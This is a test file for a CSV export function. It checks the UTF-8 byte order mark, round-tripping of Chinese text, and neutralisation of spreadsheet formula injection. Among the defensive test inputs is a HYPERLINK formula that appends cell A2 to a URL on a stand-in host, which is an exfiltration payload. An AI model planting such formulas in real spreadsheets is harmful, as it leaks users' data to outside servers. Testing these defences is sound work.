import { parse } from 'csv-parse/sync';
import { csvOf } from './csv.js';

describe('a table for a spreadsheet', () => {
  it('is known as UTF-8, and read as it was written', () => {
    const rows = [
      ['内容', '原因'],
      ['水位 "3.2" 米, 上涨；\n已转带班领导', ''],
      ['', ' 空格 '],
    ];
    const text = csvOf(rows);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(parse(text, { bom: true })).toEqual(rows);
  });

  it.each([
    '=HYPERLINK("http://example.test/?"&A2)',
    '@SUM(1)',
    '+8613800000000',
    '-5+1',
    '＝1',
    '\t=1',
    "'=1",
  ])('runs nothing: %s', (text) => {
    const [[cell]] = parse(csvOf([[text]]), { bom: true }) as [[string]];
    expect(cell).toBe(`'${text}`);
  });

  it('leaves numbers numbers', () => {
    expect(csvOf([['-5', '3.2', '0']])).toBe('\ufeff-5,3.2,0\r\n');
  });
});
